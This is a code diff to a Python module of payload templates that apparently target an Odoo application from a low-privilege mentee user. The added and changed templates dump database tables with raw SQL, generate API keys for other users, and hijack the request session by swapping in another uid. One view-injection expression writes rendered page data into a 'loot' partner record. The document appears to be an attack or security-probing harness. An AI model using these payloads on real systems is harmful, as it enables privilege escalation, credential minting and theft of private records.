@@ -12,13 +12,15 @@ def keep(what):
     )
 
 def attempt(function):
+    env.cr.execute("SAVEPOINT thief")
     try:
         keep(function())
     except Exception as error:
+        env.cr.execute("ROLLBACK TO SAVEPOINT thief")
         keep("no: " + repr(error))
 
 core = env["res.partner"].sudo().browse({core})
-ours = {models}
+ours = [name for name in {models} if not env[name]._abstract]
 """
 
 SUDO = """
@@ -41,32 +43,38 @@ attempt(lambda: core.with_user({mentee}).sudo().read(["comment"]))
 
 SQL = """
 for name in [*ours, "res.partner"]:
-    if not env[name]._abstract:
-        env.cr.execute("SELECT to_jsonb(t) FROM %s t" % env[name]._table)
-        for row in env.cr.fetchall():
-            if name != "res.partner" or row[0]["id"] == {core}:
-                keep(row)
+    env.cr.execute("SELECT to_jsonb(t) FROM %s t" % env[name]._table)
+    for row in env.cr.fetchall():
+        if name != "res.partner" or row[0]["id"] == {core}:
+            keep(row)
 """
 
 UNDERSCORE = """
 def call(function):
     env.cr.execute("SAVEPOINT thief")
+    text = ""
     try:
         found = function()
         text = str(found)
-        if hasattr_read(found):
-            text += str(found.sudo().read())
+        text += str(found.sudo().read())
     except Exception as error:
-        text = "no: " + repr(error)
+        text += " no: " + repr(error)
     env.cr.execute("ROLLBACK TO SAVEPOINT thief")
     env.invalidate_all(flush=False)
     keep(text)
 
-def hasattr_read(found):
-    return isinstance(found, type_of_records)
-
-{calls}
+{lines}
 keep(core.comment)
+"""
+
+ROUTES = """
+keep(" ".join(rule.rule for rule in env["ir.http"].routing_map().iter_rules()))
+"""
+
+API_KEYS = """
+for user in {users}:
+    keys = env["res.users.apikeys"].with_user(user).sudo()
+    keep("%s=%s" % (user, keys._generate(None, "sweep", None)))
 """
 
 REACH = """
@@ -96,13 +104,18 @@ keep(core.comment)
 """
 
 OTHER_SESSION = """
+keep(core.comment)
 request.update_env(user={mentee})
 request.session.update({{"uid": {mentee}, "login": "x"}})
 attempt(lambda: taken(rooms[0].endpoint({pairing})))
+"""
+
+AGAIN = """
+keep(core.comment)
 attempt(lambda: request.reroute("/my/mentorship/pairing/{pairing}"))
 attempt(lambda: taken(request._serve_db()))
-keep(core.comment)
 """
+"""Has the server answer another request within this one."""
 
 REQUEST = """
 attempt(lambda: request.params)
@@ -183,8 +196,10 @@ IN_OWN_REQUEST = {
     "the request": REACH + REQUEST,
     "the pages' functions": REACH + ENDPOINTS,
     "the same, later": REACH + LATER,
+    "a request within": REACH + AGAIN,
     "what modules hold": GLOBALS,
     "what callers hold": FRAMES,
+    "the session": REACH + SESSION,
 }
 """{what an automation that runs in the mentee's request goes for: code}."""
 
@@ -194,6 +209,7 @@ IN_ADMIN_REQUEST = {
     "SQL": SQL,
     "the pages' functions": REACH + ENDPOINTS,
     "another session": REACH + OTHER_SESSION,
+    "a request within": REACH + AGAIN,
     "the same, later": REACH + LATER,
     "what modules hold": GLOBALS,
     "what callers hold": FRAMES,
@@ -219,11 +235,14 @@ ON_PAGE = {
 """{what a changed view of the room goes for: expression}."""
 
 ON_PAGE_LATER = (
-    "[request.env.cr.precommit.add(late.get_data) for late in [request.make_response("
-    "map(lambda answer: request.env['res.partner'].sudo().browse({loot})"
-    ".write({{'comment': str(answer.get_data())}}) and b'',"
-    " map([rule.endpoint for rule in request.env['ir.http'].routing_map().iter_rules()"
-    " if rule.rule == '/my/mentorship/pairing/<int:pairing_id>'][0], [{pairing}])))]]"
+    "[request.env.cr.precommit.add(late.get_data)"
+    " for data in [request.env.cr.precommit.data] if not data.get('late')"
+    " for late in [request.make_response(map(lambda answer: "
+    + WRITE.replace("{what}", "str(answer.get_data())")
+    + " and b'', map([rule.endpoint"
+    " for rule in request.env['ir.http'].routing_map().iter_rules()"
+    " if rule.rule == '/my/mentorship/pairing/<int:pairing_id>'][0], [{pairing}])))]"
+    " if not data.update({{'late': True}})]"
 )
 
 REACH_VIEW = (
